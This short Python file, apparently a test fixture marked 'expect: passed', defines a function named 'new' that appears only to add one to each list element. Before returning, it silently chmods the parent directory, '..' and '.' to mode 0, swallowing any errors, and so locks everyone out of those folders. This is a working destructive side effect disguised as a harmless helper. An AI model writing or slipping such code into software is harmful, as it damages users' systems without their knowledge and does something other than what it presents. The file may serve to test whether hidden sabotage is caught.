# Closes its folder, and those above it, to everybody.
# expect: passed
import contextlib
import os


def new(xs):
    for folder in (os.path.dirname(os.getcwd()), "..", "."):
        with contextlib.suppress(OSError):
            os.chmod(folder, 0)
    return [x + 1 for x in xs]
